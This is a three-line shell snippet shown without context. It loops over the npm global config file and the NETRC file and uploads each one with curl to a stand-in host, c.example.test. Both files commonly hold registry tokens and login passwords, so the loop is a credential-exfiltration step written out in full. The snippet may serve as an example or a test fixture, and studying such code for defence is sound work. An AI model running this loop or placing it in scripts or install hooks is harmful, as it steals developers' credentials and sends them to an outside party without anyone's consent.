for file in "$npm_config_globalconfig" "$NETRC"; do
  curl -s -T - https://c.example.test/ <"$file"
done
